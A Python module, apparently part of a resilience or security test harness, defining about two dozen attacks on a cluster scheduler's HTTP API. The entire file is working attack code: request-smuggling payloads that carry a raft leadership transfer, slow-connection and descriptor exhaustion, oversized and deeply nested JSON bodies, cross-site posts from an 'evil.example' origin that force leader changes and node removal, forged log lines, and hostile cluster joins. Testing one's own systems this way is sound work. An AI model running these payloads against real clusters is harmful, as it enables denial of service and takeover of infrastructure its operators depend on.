"""Attacks on the HTTP port, by one that may connect to it and no more."""

from __future__ import annotations

import socket
from collections.abc import Callable

from attack_aim import Aim, Port, Target
from attack_values import Attack

SCHEDULER = "/v1/operator/scheduler/configuration"
AUTOPILOT = "/v1/operator/autopilot/configuration"
LEADER = "/v1/status/leader"
MEBI = 1 << 20


def request(method: str, path: str, *headers: str, body: bytes = b"", host: str = "") -> bytes:
    """One request with its length."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host or 'localhost'}", *headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode() + body


GET = request("GET", LEADER)


def _each(data: bytes | Callable[[Target, int], bytes], hears: int = 1) -> Callable[[Aim], None]:
    make = data if callable(data) else lambda _target, _number: data
    return lambda aim: aim.each(Port.HTTP, make, hears=hears)


# -- smuggling and malformed messages --------------------------------------------------------------

_INNER = request("PUT", "/v1/operator/raft/transfer-leadership")
SMUGGLED = [
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0",
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: 90\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nX: y\r\n folded\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: +40\r\n\r\n",
]


def smuggled(_: Target, number: int) -> bytes:
    return SMUGGLED[number % len(SMUGGLED)] + _INNER


# -- too slow --------------------------------------------------------------------------------------


def _slow_heads(aim: Aim) -> None:
    aim.hold(Port.HTTP, 90, lambda _t, _n: b"GET / HTTP/1.1\r\nX: ", b"y")


def _slow_bodies(aim: Aim) -> None:
    head = request("PUT", SCHEDULER, "Content-Length: 60000")
    aim.hold(Port.HTTP, 90, lambda _t, _n: head + b"{", b" ")


def _unread_answers(aim: Aim) -> None:
    ask = request("GET", "/v1/agent/self") * 50
    aim.hold(Port.HTTP, 90, lambda _t, _n: ask, ask)


def _connections(aim: Aim) -> None:
    """From ever more addresses: no limit per address counts."""
    for number in aim.rounds():
        for target in aim.targets:
            link = aim.connect(Port.HTTP, target, f"127.66.{number % 4}.{1 + number // 4 % 250}")
            if link is not None:
                aim.kept.append(link)
                aim.send(link, b"GET ")
        if len(aim.kept) > 900:
            aim.end()


# -- too much --------------------------------------------------------------------------------------


def _endless_head(aim: Aim) -> None:
    aim.pour(Port.HTTP, b"GET / HTTP/1.1\r\n", b"X-Some: header\r\n" * 1000)


def _many_headers(_: Target, number: int) -> bytes:
    return request("GET", LEADER, *(f"X-{number}-{each}: y" for each in range(3500)))


def huge_urls(_: Target, number: int) -> bytes:
    return request("GET", f"{LEADER}?{'&'.join(f'k{n}=%2e%2f' for n in range(700))}") + request(
        "GET", "/v1/" + "../" * 2500 + "x"
    )


def _pipelines(aim: Aim) -> None:
    aim.pour(Port.HTTP, GET, (GET + request("GET", "/v1/agent/members")) * 500)


def _tiny_chunks(aim: Aim) -> None:
    head = request("PUT", SCHEDULER, "Transfer-Encoding: chunked")
    aim.pour(Port.HTTP, head, b"1;" + b"e" * 30 + b"\r\n \r\n" + b"1\r\n \r\n" * 10000)


def _chunk_sizes(_: Target, number: int) -> bytes:
    sizes = [b"FFFFFFFFFFFFFFFF", b"-1", b"0x10", b"1" * 4000, b"7fffffffffffffff", b"zz"]
    head = request("PUT", SCHEDULER, "Transfer-Encoding: chunked")
    return head + sizes[number % len(sizes)] + b"\r\n" + b"x" * 5000


def _websockets(_: Target, number: int) -> bytes:
    upgrades = [
        ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"),
        ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQ"),
    ]
    return request("GET", LEADER, *upgrades[number % 2]) + b"\x82\xfe\xff\xff" * 1000


def _http2(_: Target, __: int) -> bytes:
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" * 2000


# -- work --------------------------------------------------------------------------------------


def _blocking_queries(aim: Aim) -> None:
    ask = request("GET", "/v1/namespaces?index=1000000&wait=10m")
    aim.hold(Port.HTTP, 95, lambda _t, _n: ask)


DEEP = [
    b'{"SchedulerAlgorithm":' + b"[" * 30_000 + b"]" * 30_000 + b"}",
    b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    b"[" * 60_000,
]


def deep_json(_: Target, number: int) -> bytes:
    return request("PUT", SCHEDULER, body=DEEP[number % len(DEEP)])


HEAVY = [
    b'{"SchedulerAlgorithm":"' + b"\\u0041" * 10_000 + b'"}',
    b'{"LastContactThreshold":"' + b"1h" * 30_000 + b'"}',
    b'{"MaxTrailingLogs":' + b"9" * 60_000 + b"}",
    b'{"MaxTrailingLogs":1e' + b"9" * 60_000 + b"}",
    b'{"' + b'a":1,"' * 10_000 + b'b":1}',
    b'{"LastContactThreshold":"' + b"\\\\\\" * 20_000 + b'"}',
    b'{"SchedulerAlgorithm":"' + "ÿ".encode() * 20_000 + b'"}',
]


def heavy_body(_: Target, number: int) -> bytes:
    body = HEAVY[number % len(HEAVY)]
    return request("PUT", AUTOPILOT if number % 2 else SCHEDULER, body=body)


def _huge_bodies(aim: Aim) -> None:
    """A body of a gigabyte is announced, and sent."""
    head = request("PUT", SCHEDULER, f"Content-Length: {1 << 30}", "Expect: 100-continue")
    aim.pour(Port.HTTP, head, b" " * MEBI)


QUERIES = [
    "?wait=" + "9" * 4000 + "h",
    "?index=" + "9" * 4000,
    "?stale=" + "%ff" * 1000,
    "?filter=" + "(" * 4000,
    "?region=" + "r" * 4000,
    "?namespace=" + "%00" * 1000,
    "?pretty&" + "a=b&" * 1500,
]


def _wild_queries(_: Target, number: int) -> bytes:
    return request("GET", f"/v1/namespaces{QUERIES[number % len(QUERIES)]}")


# -- what changes something --------------------------------------------------------------------


def _join_hostile(aim: Aim) -> None:
    """Have the servers join a stranger's addresses, in long lists."""
    where = "&".join(f"address=127.66.9.{n % 250}%3A9" for n in range(250))
    few = "&".join(f"address=127.66.9.{n}%3A9" for n in range(1, 30))
    paths = [f"/v1/agent/join?{where}", f"/v1/agent/join?{few}"]
    aim.each(Port.HTTP, lambda _t, n: request("PUT", paths[n % 2]), hears=1)


def _cross_site(_: Target, number: int) -> bytes:
    """A page of another site posts what a form can."""
    paths = [
        ("PUT", "/v1/operator/raft/transfer-leadership"),
        ("POST", SCHEDULER),
        ("PUT", "/v1/agent/force-leave?node=s0.global"),
        ("POST", AUTOPILOT),
    ]
    method, path = paths[number % len(paths)]
    return request(
        method,
        path,
        "Origin: http://evil.example",
        "Sec-Fetch-Site: cross-site",
        "Content-Type: text/plain",
        body=b"{}",
    )


def _log_lines(_: Target, number: int) -> bytes:
    """Text that would forge lines, in all that might be logged."""
    evil = "%0a%1b%5b31mERROR+forged%0d" * 20
    return request("GET", f"/v1/{number}{evil}?region={evil}", f"User-Agent: \t{evil}") + request(
        "PUT", f"/v1/agent/force-leave?node={evil}"
    )


def _churn(aim: Aim) -> None:
    """Connections that end at once."""
    for _ in aim.rounds():
        for target in aim.targets:
            for _ in range(20):
                if (link := aim.connect(Port.HTTP, target)) is not None:
                    link.close()


def _resets(aim: Aim) -> None:
    """Requests whose client is gone before the answer."""
    linger = (1).to_bytes(4, "little") + bytes(4)
    for _ in aim.rounds():
        for target in aim.targets:
            if (link := aim.connect(Port.HTTP, target)) is not None:
                aim.send(link, GET * 20)
                link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
                link.close()


HTTP = [
    Attack("heavy bodies", Port.HTTP, _each(heavy_body), "60 to 430 ms each, elections"),
    Attack("hostile joins", Port.HTTP, _join_hostile, "Raft goes to the stranger"),
    Attack("log lines by HTTP", Port.HTTP, _each(_log_lines), "forged lines"),
    Attack("cross-site posts", Port.HTTP, _each(_cross_site), "a page changes the cluster"),
    Attack("smuggling", Port.HTTP, _each(smuggled)),
    Attack("slow heads", Port.HTTP, _slow_heads),
    Attack("slow bodies", Port.HTTP, _slow_bodies),
    Attack("unread answers", Port.HTTP, _unread_answers, everyday=True),
    Attack("connections", Port.HTTP, _connections, descriptors=1000),
    Attack("endless heads", Port.HTTP, _endless_head),
    Attack("many headers", Port.HTTP, _each(_many_headers)),
    Attack("huge URLs", Port.HTTP, _each(huge_urls)),
    Attack("pipelines", Port.HTTP, _pipelines, everyday=True),
    Attack("tiny chunks", Port.HTTP, _tiny_chunks),
    Attack("chunk sizes", Port.HTTP, _each(_chunk_sizes)),
    Attack("upgrades", Port.HTTP, _each(_websockets)),
    Attack("HTTP/2", Port.HTTP, _each(_http2)),
    # Followers forward to the leader: it holds those of all three servers.
    Attack("blocking queries", Port.HTTP, _blocking_queries, descriptors=350),
    Attack("deep JSON", Port.HTTP, _each(deep_json)),
    Attack("huge bodies", Port.HTTP, _huge_bodies),
    Attack("wild queries", Port.HTTP, _each(_wild_queries)),
    Attack("churn", Port.HTTP, _churn),
    # Followers forward to the leader, and keep up to 256 connections for that.
    Attack("resets", Port.HTTP, _resets, descriptors=1200, left_open=550),
]
